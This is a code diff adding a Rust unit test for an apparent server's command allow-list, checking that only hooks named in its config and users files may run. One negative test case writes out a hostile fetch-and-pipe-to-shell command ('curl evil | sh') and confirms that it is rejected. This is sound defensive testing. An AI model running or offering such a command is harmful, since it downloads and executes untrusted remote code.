@@ -307,3 +307,45 @@ impl AsFdOwned for io::StdinLock<'_> {
         self.as_fd().try_clone_to_owned()
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_runner_runs_only_commands_the_configuration_names() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = dir.path().join("ferryd.toml");
+        std::fs::write(
+            &config,
+            format!(
+                "[server]\nstate_dir = \"{d}\"\ndata_dir = \"{d}/data\"\n\
+                 [[hook]]\non = [\"upload\"]\nrun = [\"/usr/local/bin/deploy\", \"--fast\"]\n",
+                d = dir.path().display()
+            ),
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("users.toml"),
+            "[[user]]\nname = \"ci\"\n[[user.hook]]\non = [\"delete\"]\nrun = [\"/usr/bin/logger\"]\n",
+        )
+        .unwrap();
+        let mut allow = AllowList {
+            config,
+            commands: HashSet::new(),
+            read_at: None,
+        };
+        allow.read();
+        let argv = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
+        assert!(allow.allows(&argv(&["/usr/local/bin/deploy", "--fast"])));
+        assert!(
+            allow.allows(&argv(&["/usr/bin/logger"])),
+            "a user's own hook"
+        );
+        assert!(
+            !allow.allows(&argv(&["/usr/local/bin/deploy"])),
+            "other arguments"
+        );
+        assert!(!allow.allows(&argv(&["/bin/sh", "-c", "curl evil | sh"])));
+    }
+}
